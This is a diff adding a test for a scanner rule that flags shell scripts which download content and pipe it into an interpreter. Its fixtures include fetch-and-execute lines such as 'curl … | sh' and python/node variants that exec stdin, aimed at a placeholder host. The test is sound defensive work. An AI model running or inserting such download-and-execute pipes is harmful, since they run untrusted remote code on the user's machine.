@@ -58,3 +58,23 @@ def test_comments_and_inline_programs_reading_a_download_are_not_installers(mach
     assert machine.run("SUP005").status is Status.PASS
     machine.ws("scripts/bad.sh", "curl -s https://x.invalid/i | python3 -\n")
     assert machine.run("SUP005").status is Status.FAIL
+
+
+def test_trailing_comments_and_data_tools_are_not_installers(machine):
+    """`echo ok # curl … | sh` is a comment; `| python -m json.tool` and `| jq` format
+    data. An inline program that runs what it reads is an installer, and so is a `#`
+    inside quotes or a URL fragment."""
+    machine.ws("scripts/a.sh", "curl -s https://x.invalid/v | python -m json.tool\n"
+               "curl -s https://x.invalid/v | jq .name\n"
+               "echo ok # curl https://x.invalid | sh\n"
+               "echo ok  \t# wget -O- https://x.invalid | bash\n")
+    assert machine.run("SUP005").status is Status.PASS
+    for bad in ("curl -s https://x.invalid/i | python3 -c 'import sys; exec(sys.stdin.read())'",
+                "curl -s https://x.invalid/i | node -e 'eval(require(\"fs\").readFileSync(0, "
+                "\"utf8\"))'",
+                "echo '# not a comment' && curl -s https://x.invalid/i | sh",
+                "curl -s https://x.invalid/i#frag | sh",
+                "echo $# && curl -s https://x.invalid/i | sh"):
+        machine.ws("scripts/bad.sh", bad + "\n")
+        out = machine.run("SUP005")
+        assert out.status is Status.FAIL, (bad, out)
